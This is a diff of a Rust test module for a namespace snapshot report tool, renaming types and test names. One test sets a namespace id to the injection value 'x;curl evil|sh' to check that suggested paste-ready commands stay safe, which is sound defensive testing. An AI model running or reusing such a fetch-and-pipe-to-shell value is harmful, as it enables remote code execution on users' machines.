@@ -1,13 +1,14 @@
+use std::time::Duration as StdDuration;
+
 use proptest::prelude::*;
 use time::macros::datetime;
 
 use super::*;
-use crate::report::Trouble;
 use crate::store::{LeaseNumber, PublishedRecord, UnpublishedSnapshots};
 
 const NOW: OffsetDateTime = datetime!(2026-11-24 12:00 UTC);
 
-const ASKED: Asked = Asked {
+const OPTIONS: ReportOptions = ReportOptions {
     growth_factor: 3.0,
     growth_floor: 100,
     stale_after: StdDuration::from_secs(36 * 3600),
@@ -26,7 +27,7 @@ fn point(key: i32, days_ago: i64, objects: i64) -> PointRow {
     }
 }
 
-/// A namespace of which the last of these points is the newest.
+/// A namespace whose newest snapshot is the last of these points with its key.
 fn row(key: i32, points: &[PointRow]) -> ReportRow {
     let newest = points.iter().rfind(|point| point.key == key);
     ReportRow {
@@ -70,7 +71,7 @@ fn last_failed(mut row: ReportRow) -> ReportRow {
 }
 
 fn report(rows: &[ReportRow], points: &[PointRow]) -> Report {
-    Report::new(ASKED, NOW, rows.len(), rows, points, None)
+    Report::new(OPTIONS, NOW, rows.len(), rows, points, None)
 }
 
 fn troubles(report: &Report) -> Vec<(Trouble, &str)> {
@@ -82,7 +83,7 @@ fn troubles(report: &Report) -> Vec<(Trouble, &str)> {
 fn a_change_needs_a_number_at_both_ends() {
     let points = [point(1, 7, 40), point(1, 0, 50), point(2, 0, 10)];
     let report = report(&[row(1, &points), row(2, &points)], &points);
-    let objects = |change: Option<Change>| change.map(|change| (change.objects, change.namespaces));
+    let objects = |change: Option<CountChange>| change.map(|change| (change.objects, change.namespaces));
     assert_eq!(
         report.namespaces[0].changes.map(objects),
         [Some((10, 1)), Some((10, 1)), None]
@@ -97,11 +98,11 @@ fn a_change_needs_a_number_at_both_ends() {
 }
 
 fn words_of(report: &Report) -> Option<String> {
-    crate::report::words::partial_changes(report)
+    summary::partial_changes(report)
 }
 
 #[test]
-fn the_missing_count_up_to_the_day_on_which_they_were() {
+fn missing_namespaces_count_until_they_went_missing() {
     let points = [point(1, 20, 40), point(2, 20, 7)];
     let gone = missing_since(NOW - Duration::days(3), row(2, &points));
     let report = report(&[row(1, &points), gone], &points);
@@ -117,7 +118,7 @@ fn the_missing_count_up_to_the_day_on_which_they_were() {
 }
 
 #[test]
-fn the_most_urgent_comes_first_and_the_retired_need_nothing() {
+fn problems_are_sorted_by_urgency_and_retired_namespaces_have_none() {
     let points = [point(1, 3, 5), point(2, 0, 5), point(3, 0, 0), point(4, 0, 5)];
     let held = UnpublishedSnapshots {
         held_snapshot_id: Some(9),
@@ -148,7 +149,7 @@ fn the_most_urgent_comes_first_and_the_retired_need_nothing() {
 }
 
 #[test]
-fn a_namespace_that_is_new_is_not_stale_yet() {
+fn a_new_namespace_is_not_stale_yet() {
     let mut fresh = row(1, &[]);
     fresh.namespace.first_seen_at = NOW - Duration::hours(36);
     let old = row(2, &[]);
@@ -159,7 +160,7 @@ fn a_namespace_that_is_new_is_not_stale_yet() {
 }
 
 #[test]
-fn a_command_that_is_to_be_copied_runs_nothing_else() {
+fn a_suggested_command_is_safe_to_paste() {
     let points = [point(1, 1, 10)];
     let mut gone = missing_since(NOW, row(1, &points));
     gone.namespace.namespace_id = "x;curl evil|sh".to_owned();
@@ -172,7 +173,7 @@ fn a_command_that_is_to_be_copied_runs_nothing_else() {
 }
 
 proptest! {
-    /// Whatever the namespaces went through, the totals are the sums of what is shown.
+    /// The totals are the sums over the listed namespaces.
     #[test]
     fn totals_are_sums(past in proptest::collection::vec(
         proptest::collection::btree_map(0i64..60, 0i64..1_000, 0..8), 0..6)
